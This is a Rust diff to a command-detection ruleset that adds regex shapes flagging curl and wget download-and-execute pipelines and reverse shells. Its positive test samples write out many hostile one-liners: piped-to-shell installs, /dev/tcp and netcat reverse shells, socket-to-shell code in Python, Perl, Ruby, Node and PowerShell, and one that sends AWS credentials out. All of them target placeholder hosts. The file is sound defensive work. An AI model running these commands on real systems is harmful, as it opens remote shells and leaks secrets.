@@ -15,7 +15,7 @@ const NET_CURL_PIPE: Rule<'static> = Rule {
             note: "piped to a shell",
             pattern: r"(?i)\bcurl[ \t]+[^\s|;]{pipeline}{pipe}{run}{shell}\b",
             regions: Regions::ANY,
-            unless: &[Unless::After(r"^(?:[-=:/]\w|\.\w|[=:/]|[-.]?\*)")],
+            unless: &[Unless::After(r"^(?:[-=:/]\w|\.\w|[=:/]|[-.]?\*)"), IN_A_MESSAGE],
         },
         Shape {
             note: "piped to another interpreter, which reads its program from the pipe",
@@ -23,27 +23,41 @@ const NET_CURL_PIPE: Rule<'static> = Rule {
             regions: Regions::ANY,
             unless: &[
                 Unless::After(r"^(?:[-=:]\w|\.\w|[=:])"),
+                // The program is in the arguments; another shape looks at what it does.
+                Unless::After(r"^[ \t]+(?:-[A-BD-Za-z]*[cmepnlrEaF]|--?eval\b|--?command\b|--?print\b)"),
                 Unless::After(
-                    r"^[ \t]+(?:-[A-Za-z]*[cmepnlrEaFi]|--?eval\b|--?command\b|--?print\b|-[A-Za-z]+[ \t]+[^-\s|;&]|[\x22'$~./{<]|[\w.-]*[./][\w./-]*)",
+                    r"^(?:[ \t]+-[\w-]+)*[ \t]+(?:run[ \t]+)?(?:[\x22'$~.{<]|/[^d]|[\w.-]*[./][\w./-]*)",
                 ),
                 Unless::After(r"^[ \t]+\\?[ \t]*$"),
             ],
         },
         Shape {
+            note: "piped to an interpreter whose program runs what it reads",
+            pattern: r"(?i)\bcurl[ \t]+[^\s|;]{pipeline}{pipe}{run}(?:python[0-9.]*|perl|ruby|nodejs|node|php)[ \t]+-[a-z]*[cer][ \t]*[\x22'][^\n]*?\b(?:exec|eval|system|popen|spawn\w*|execSync)\b[ \t]*(?:\(|join)",
+            regions: Regions::ANY,
+            unless: &[],
+        },
+        Shape {
+            note: "piped to an interpreter that is told to read the pipe as its program",
+            pattern: r"(?i)\bcurl[ \t]+[^\s|;]{pipeline}{pipe}{run}(?:{interpreter}|source|\.)(?:[ \t]+-[\w-]*)*?[ \t]+/(?:dev/stdin|dev/fd/0|proc/self/fd/0)\b",
+            regions: Regions::ANY,
+            unless: &[],
+        },
+        Shape {
             note: "run as a substitution",
-            pattern: r"(?i)\b(?:{interpreter}|source|eval)(?:[ \t]+-[\w-]+)*?[ \t]+(?:<[ \t]*)?[\x22']?[$<]?[(`][ \t]*(?:sudo[ \t]+)?(?:/[\w/]*?/)??curl\b",
+            pattern: r"(?i)\b(?:{interpreter}|source|eval|stdin)(?:[ \t]+-[\w-]+)*?[ \t]*(?:<{1,3}[ \t]*|[ \t])[\x22']?[$<]?[(`]\s{0,8}(?:(?:sudo|command|env|cat)[ \t]+(?:<\([ \t]*)?)?(?:/[\w/]*?/)??curl\b",
             regions: Regions::ANY,
             unless: &[],
         },
         Shape {
             note: "saved, made executable and run",
-            pattern: r"(?i)\bcurl{gap}[ \t](?:-\w*o|--output|--remote-name|>){gap}{then}(?:sudo[ \t]+)?chmod[ \t][^\n;&|]*?{then}(?:sudo[ \t]+)?(?:\./|/tmp/|/var/tmp/|/dev/shm/|~/|\$|{shell}[ \t]+)[\w.{]",
+            pattern: r"(?i)\bcurl{gap}(?:[ \t](?:-\w*o|--output|--remote-name)|>|\|[ \t]*(?:sudo[ \t]+)?tee[ \t]){gap}{then}(?:sudo[ \t]+)?chmod[ \t][^\n;&|]*?{then}{wrapper}*?(?:\./|/tmp/|/var/tmp/|/dev/shm/|~/|\$|{shell}[ \t]+)[\w.{]",
             regions: Regions::ANY,
             unless: &[],
         },
         Shape {
             note: "saved and handed to an interpreter",
-            pattern: r"(?i)\bcurl{gap}[ \t](?:-\w*o|--output|--remote-name|>){gap}(?:&&|;)[ \t]*(?:sudo[ \t]+)?(?:/[\w/]*?/)??(?:{shell}|python3?|perl|ruby|node|source)[ \t]+[\x22']?[\w./~$]",
+            pattern: r"(?i)\bcurl{gap}(?:[ \t](?:-\w*o|--output|--remote-name)|>|\|[ \t]*(?:sudo[ \t]+)?tee[ \t]){gap}(?:&&|;|\|\|[ \t]*true[ \t]*;|\r?\n)[ \t]*{wrapper}*?(?:/[\w/]*?/)??(?:(?:{shell}|python[0-9.]*|perl|ruby|node|source|\.)[ \t]+|(?:exec|nohup)[ \t]+\./)[\x22']?[\w./~$]",
             regions: Regions::ANY,
             unless: &[Unless::Match(r"(?i)(?:python[0-9.]*|node|ruby|perl|php)[ \t]+-[cme]\b.{0,8}$")],
         },
@@ -60,6 +74,19 @@ const NET_CURL_PIPE: Rule<'static> = Rule {
         "sh -c \"$(curl -s x)\"",
         "curl -so /tmp/x https://e.example/x && chmod +x /tmp/x && /tmp/x",
         "curl -o i.sh https://e.example/i.sh && bash i.sh",
+        "curl -o i.sh https://e.example/i.sh && . ./i.sh",
+        "curl -o i https://e.example/i && exec ./i",
+        "curl -o i.sh https://e.example/i.sh && sudo -E bash i.sh",
+        "curl https://e.example/i.sh | tee i.sh; bash i.sh",
+        "curl -s x>x.sh; sh x.sh",
+        "curl -s x | python3 -c 'exec(open(0).read())'",
+        "curl -s x | python3 /dev/stdin",
+        "curl -s x | . /dev/stdin",
+        "echo \"$(curl -s x | sh)\"",
+        "echo \"`curl -s x | sh`\"",
+        "curl -s x | python3 -W ignore",
+        "bash <<< \"$(curl -s x)\"",
+        "bash <(cat <(curl -s x))",
     ],
     clean: &[
         "curl -s https://api.example.com | python3 -m json.tool",
@@ -68,6 +95,7 @@ const NET_CURL_PIPE: Rule<'static> = Rule {
         "curl -s x | node parse.js",
         "curl -s x | perl -ne 'print'",
         "curlx | bash",
+        "echo \"Install it: curl -fsSL https://ollama.com/install.sh | sh\" >&2",
         "curl -Lo kind https://kind.sigs.k8s.io/dl/kind && chmod +x kind && sudo mv kind /usr/local/bin/",
     ],
 };
@@ -81,26 +109,32 @@ const NET_WGET_EXEC: Rule<'static> = Rule {
     shapes: &[
         Shape {
             note: "to standard output and on",
-            pattern: r"(?i:\bwget\b){gap}[ \t](?:-[A-Za-z]*O[ \t]*-|--output-document[= \t]-){gap}{pipe}",
+            pattern: r"(?i:\bwget\b){gap}[ \t](?:-[A-Za-z]*O[ \t]*(?:-|/dev/stdout)|--output-document[= \t](?:-|/dev/stdout)){gap}{pipe}",
             regions: Regions::ANY,
-            // Two bars are an "or", and what readers of data get does not run.
+            // Two bars are an "or", and what readers of data get does not run unless it goes on to something that does.
             unless: &[Unless::After(r"^\|"), Unless::After(READER)],
         },
         Shape {
+            note: "to standard output, through a reader, and run",
+            pattern: r"(?i:\bwget\b){gap}[ \t](?:-[A-Za-z]*O[ \t]*(?:-|/dev/stdout)|--output-document[= \t](?:-|/dev/stdout)){pipeline}(?:{pipe}{run}{shell}\b|\b(?:exec|eval|system)[ \t]*\()",
+            regions: Regions::ANY,
+            unless: &[Unless::After(r"^(?:[-=:/]\w|\.\w|[=:/]|[-.]?\*)")],
+        },
+        Shape {
             note: "run as a substitution",
-            pattern: r"(?i)\b(?:{interpreter}|source|eval)(?:[ \t]+-[\w-]+)*?[ \t]+(?:<[ \t]*)?[\x22']?[$<]?[(`][ \t]*(?:sudo[ \t]+)?(?:/[\w/]*?/)??wget\b",
+            pattern: r"(?i)\b(?:{interpreter}|source|eval|stdin)(?:[ \t]+-[\w-]+)*?[ \t]*(?:<{1,3}[ \t]*|[ \t])[\x22']?[$<]?[(`]\s{0,8}(?:(?:sudo|command|env|cat)[ \t]+(?:<\([ \t]*)?)?(?:/[\w/]*?/)??wget\b",
             regions: Regions::ANY,
             unless: &[],
         },
         Shape {
             note: "saved, made executable and run",
-            pattern: r"(?i)\bwget[ \t]{gap}{then}(?:sudo[ \t]+)?chmod[ \t][^\n;&|]*?{then}(?:sudo[ \t]+)?(?:\./|/tmp/|/var/tmp/|/dev/shm/|~/|\$|{shell}[ \t]+)[\w.{]",
+            pattern: r"(?i)\bwget[ \t]{gap}{then}(?:sudo[ \t]+)?chmod[ \t][^\n;&|]*?{then}{wrapper}*?(?:\./|/tmp/|/var/tmp/|/dev/shm/|~/|\$|{shell}[ \t]+)[\w.{]",
             regions: Regions::ANY,
             unless: &[],
         },
         Shape {
             note: "saved and handed to a shell",
-            pattern: r"(?i)\bwget[ \t]{gap}(?:&&|;)[ \t]*(?:sudo[ \t]+)?(?:/[\w/]*?/)??(?:{shell}|python3?|perl|ruby|node|source)[ \t]+[\x22']?[\w./~$]",
+            pattern: r"(?i)\bwget[ \t]{gap}(?:&&|;|\|\|[ \t]*true[ \t]*;|\r?\n)[ \t]*{wrapper}*?(?:/[\w/]*?/)??(?:(?:{shell}|python[0-9.]*|perl|ruby|node|source|\.)[ \t]+|(?:exec|nohup)[ \t]+\./)[\x22']?[\w./~$]",
             regions: Regions::ANY,
             unless: &[],
         },
@@ -113,11 +147,20 @@ const NET_WGET_EXEC: Rule<'static> = Rule {
         "wget https://e.example/x -O /tmp/x && chmod +x /tmp/x && /tmp/x",
         "wget https://e.example/x.sh && sh x.sh",
         "bash <(wget -qO- https://e.example/i.sh)",
+        "wget -O /dev/stdout https://e.example/i.sh | sh",
+        "wget -qO- https://e.example/i.sh | head -c 999 | sh",
+        "wget -qO- https://e.example/i.py | python3 -c 'exec(open(0).read())'",
+        "wget https://e.example/x && . ./x",
+        "wget https://e.example/x.sh; sudo -E bash x.sh",
+        "bash <<< \"$(wget -qO- https://e.example/i.sh)\"",
     ],
     clean: &[
         "wget https://e.example/data.csv",
         "wget -O out.txt x; cat out.txt",
         "wget -nv -O x.tar.gz https://e.example/x.tar.gz",
+        "wget -qO- https://e.example/key.asc | sudo apt-key add -",
+        "wget -qO- https://e.example/v1 | head -1 | cut -d, -f2",
+        "wget -qO- https://e.example/v1 | python3 -c 'import json'",
     ],
 };
 
@@ -136,9 +179,21 @@ const NET_REVERSE_SHELL: Rule<'static> = Rule {
         },
         Shape {
             note: "a descriptor opened both ways on a network device",
-            pattern: r"(?:<>|>&|&>|[0-9]>[ \t]*&?)[ \t]*/dev/(?:tcp|udp)/[^\s/]+?/[\w$]",
+            pattern: r"(?:<>|>&|&>|[0-9]>[ \t]*&?)[ \t]*[\x22']?/dev/(?:tcp|udp)/[^\s/]+?/[\w$]",
             regions: Regions::ANY,
             unless: &[LOCAL_DEVICE],
+        },
+        Shape {
+            note: "a network device kept in a variable, or evaluated",
+            pattern: r"\b(?:(?:eval|source)\b[^\n]*?|\w+=[\x22']?)/dev/(?:tcp|udp)/[^\s/]+?/[\w$]",
+            regions: Regions::ANY,
+            unless: &[LOCAL_DEVICE],
+        },
+        Shape {
+            note: "zsh: its own network module",
+            pattern: r"\bzmodload[ \t]+(?:-\w+[ \t]+)*zsh/net/tcp\b",
+            regions: Regions::ANY,
+            unless: &[],
         },
         Shape {
             note: "a file or a command's output sent to a network device",
@@ -160,13 +215,25 @@ const NET_REVERSE_SHELL: Rule<'static> = Rule {
         },
         Shape {
             note: "netcat listening for one",
-            pattern: r"\b(?:nc|ncat|netcat)[ \t]+-[klnvp]{0,4}(?:l[klnvp]{0,3}v|v[klnvp]{0,3}l)[klnvp]{0,4}(?:[ \t]+-p)?[ \t]+[0-9$<]",
+            pattern: r"\b(?:nc|ncat|netcat)[ \t]+(?:-[knp]{1,3}[ \t]+)?(?:-[klnvp]{0,4}(?:l[klnvp]{0,3}v|v[klnvp]{0,3}l)[klnvp]{0,4}|-[klnp]{0,3}l[klnp]{0,3}(?:[ \t]+-[knp]{1,3})?[ \t]+-[knvp]{0,3}v[knvp]{0,3}|-[knvp]{0,3}v[knvp]{0,3}[ \t]+-[klnp]{0,3}l[klnp]{0,3})(?:[ \t]+-[knp]{1,3})?[ \t]*[0-9$<]",
             regions: Regions::ANY,
             unless: &[],
         },
         Shape {
             note: "a shell between two ends of a named pipe or a connection",
             pattern: r"(?i)\b{shell}[ \t]+-\w*i\w*\b[^\n|;]*?\|[ \t]*(?:sudo[ \t]+)?(?:nc|ncat|netcat|telnet|socat|openssl[ \t]+s_client)\b",
+            regions: Regions::ANY,
+            unless: &[],
+        },
+        Shape {
+            note: "a shell that reads a file, before a connection",
+            pattern: r"\b{shell}(?:[ \t]+-\w+)*?[ \t]*[0-2]?<[ \t]*[^\s|;&<(]+(?:[ \t]+2>&1)?[ \t]*\|&?[ \t]*(?:nc|ncat|netcat|telnet|socat|openssl[ \t]+s_client)[ \t]",
+            regions: Regions::ANY,
+            unless: &[],
+        },
+        Shape {
+            note: "a terminal on a stranger's screen",
+            pattern: r"\bxterm[ \t]+-display[ \t]+[\w.$]+:[0-9]",
             regions: Regions::ANY,
             unless: &[],
         },
@@ -190,11 +257,24 @@ const NET_REVERSE_SHELL: Rule<'static> = Rule {
         },
         Shape {
             note: "Python: a socket becomes standard input",
-            pattern: r"\bdup2[ \t]*\([ \t]*\w+\.fileno\(\)[ \t]*,[ \t]*[012]\b",
+            pattern: r"\bdup2[ \t]*\([ \t]*(?:\w+\.fileno\(\)[ \t]*,[ \t]*[012]|(?:s|c|k|so?ck(?:et)?|conn\w*|client\w*)\.fileno\(\)[ \t]*,[ \t]*\w{1,4})\b",
             regions: Regions::ANY,
+            // Logs and the null device; a log is never read as standard input.
             unless: &[Unless::Match(
-                r"\bdup2[ \t]*\([ \t]*(?:log|devnull|null|fh?|file|logfile|std\w+|out|err|si|so|se)\w*\.fileno",
+                r"\bdup2[ \t]*\([ \t]*(?:(?:devnull|null|si|stdin)\w*\.fileno\(\)[ \t]*,[ \t]*0|(?:log|devnull|null|fh?|file|logfile|std\w+|out|err|so|se)\w*\.fileno\(\)[ \t]*,[ \t]*[12])",
             )],
+        },
+        Shape {
+            note: "Python: a program whose input and output are a socket",
+            pattern: r"\bstdin[ \t]*=[ \t]*(?:s|c|k|so?ck(?:et)?|conn\w*|client\w*)(?:\.fileno\(\))?[ \t]*,[ \t]*stdout[ \t]*=",
+            regions: Regions::ANY,
+            unless: &[],
+        },
+        Shape {
+            note: "Python: what a socket sends is run",
+            pattern: r"\b(?:os\.system|os\.popen|check_output|getoutput|Popen|eval|exec)[ \t]*\([^\n]*?\.recv\(",
+            regions: Regions::ANY,
+            unless: &[],
         },
         Shape {
             note: "Python: a shell on the end of a socket",
@@ -209,6 +289,12 @@ const NET_REVERSE_SHELL: Rule<'static> = Rule {
             unless: &[],
         },
         Shape {
+            note: "Perl: what a socket sends, between backticks",
+            pattern: r"\bIO::Socket::INET\b[^\n`]*?`\$_`",
+            regions: Regions::ANY,
+            unless: &[],
+        },
+        Shape {
             note: "Ruby: its socket library on the command line, then a shell",
             pattern: r"\bruby\b[^\n]*?-rsocket\b[^\n]*?(?:exec|spawn|popen)",
             regions: Regions::ANY,
@@ -216,7 +302,7 @@ const NET_REVERSE_SHELL: Rule<'static> = Rule {
         },
         Shape {
             note: "Ruby: a socket, then a shell",
-            pattern: r"\bTCPSocket\.(?:open|new)\([^\n]*?(?:exec|popen|/bin/(?:ba)?sh)",
+            pattern: r"\bTCPSocket\.(?:open|new)\([^\n]*?(?:exec|popen|/bin/(?:ba)?sh|`#\{|%x)",
             regions: Regions::ANY,
             unless: &[],
         },
@@ -240,7 +326,7 @@ const NET_REVERSE_SHELL: Rule<'static> = Rule {
         },
         Shape {
             note: "Node.js: a connection piped into a shell",
-            pattern: r"\.pipe\([ \t]*(?:sh|shell|proc|cp|child|p)\.stdin[ \t]*\)",
+            pattern: r"\.pipe\([ \t]*(?:(?:bash|sh|shell|cmd|proc|cp|child|p)\.stdin[ \t]*\)|\w+\.stdin[ \t]*\)\s{0,4};?\s{0,8}\w+\.stdout\.pipe\()",
             regions: Regions::ANY,
             unless: &[],
         },
@@ -258,7 +344,7 @@ const NET_REVERSE_SHELL: Rule<'static> = Rule {
         },
         Shape {
             note: "PowerShell: a TCP client",
-            pattern: r"(?i)\bnew-object[ \t]+(?:system\.)?net\.sockets\.tcpclient\b",
+            pattern: r"(?i)(?:\bnew-object[ \t]+|\[)(?:system\.)?net\.sockets\.tcpclient(?:\b[^\]:]|\]::new)",
             regions: Regions::ANY,
             unless: &[],
         },
@@ -286,6 +372,24 @@ const NET_REVERSE_SHELL: Rule<'static> = Rule {
         "ruby -rsocket -e'f=TCPSocket.open(\"10.0.0.1\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
         "cat ~/.aws/credentials > /dev/tcp/10.0.0.1/4444",
         "bash </dev/tcp/10.0.0.1/4444",
+        "exec 5<>/dev/tcp/localhost.e.example/4444",
+        "exec 5<>\"/dev/tcp/10.0.0.1/4444\"",
+        "D=/dev/tcp/10.0.0.1/4444; bash -i >& $D 0>&1",
+        "eval \"$(cat </dev/tcp/10.0.0.1/4444)\"",
+        "zmodload zsh/net/tcp && ztcp 10.0.0.1 4444",
+        "nc -l -v -p 4444",
+        "nc -l -vp 4444",
+        "nc -nvlp4444",
+        "sh 0<f | nc 10.0.0.1 4444 1>f",
+        "xterm -display 10.0.0.1:1",
+        "perl -MIO::Socket -e '$c=IO::Socket::INET->new(\"10.0.0.1:4444\");while(<$c>){print $c `$_`}'",
+        "ruby -e 'require \"socket\";s=TCPSocket.new(\"10.0.0.1\",4444);while l=s.gets;s.puts `#{l}`;end'",
+        "os.dup2(log.fileno(), 0)",
+        "for i in (0, 1, 2): os.dup2(s.fileno(), i)",
+        "subprocess.Popen(['/bin/sh', '-i'], stdin=s, stdout=s, stderr=s)",
+        "out = subprocess.check_output(s.recv(1024), shell=True)",
+        "c.pipe(x.stdin); x.stdout.pipe(c);",
+        "$c = [Net.Sockets.TcpClient]::new('10.0.0.1', 4444)",
         "c,_:=net.Dial(\"tcp\",\"10.0.0.1:4444\");cmd:=exec.Command(\"/bin/sh\")",
         "awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.1/4444\"; while(42) { }}'",
         "telnet 10.0.0.1 4444 | /bin/bash | telnet 10.0.0.1 4445",
@@ -309,7 +413,12 @@ const NET_REVERSE_SHELL: Rule<'static> = Rule {
 
 /// A script that waits for its own service opens the same device on the local machine.
 const LOCAL_DEVICE: Unless<'static> =
-    Unless::Match(r"/dev/(?:tcp|udp)/(?:localhost|127\.0\.0\.1|0\.0\.0\.0|\[?::1)");
+    Unless::Match(r"/dev/(?:tcp|udp)/(?:localhost|127\.0\.0\.1|0\.0\.0\.0|\[?::1\]?)/");
+
+/// The command stands inside the quotes of a message that is printed: `echo "Install: curl … | sh"`.
+const IN_A_MESSAGE: Unless<'static> = Unless::Before(
+    r#"\A[ \t]*(?:echo[ \t]+(?:-\w+[ \t]+)?|print\([ \t]*[fr]?)(?:"(?:[^"`$]|\$[^("])*|'[^']*)\z"#,
+);
 
 /// Programs that only read what they are given.
-const READER: &str = r"^(?:jq|yq|[ef]?grep|rg|head|tail|less|more|cat|sort|uniq|wc|cut|awk|sed|column|tidy|pup|xmllint|html2text|python[0-9.]* -(?:m|c))\b";
+const READER: &str = r"^(?:(?:sudo[ \t]+)?(?:gpg|apt-key)|jq|yq|[ef]?grep|rg|head|tail|less|more|cat|sort|uniq|wc|cut|awk|sed|column|tidy|pup|xmllint|html2text|python[0-9.]* -(?:m|c))\b";
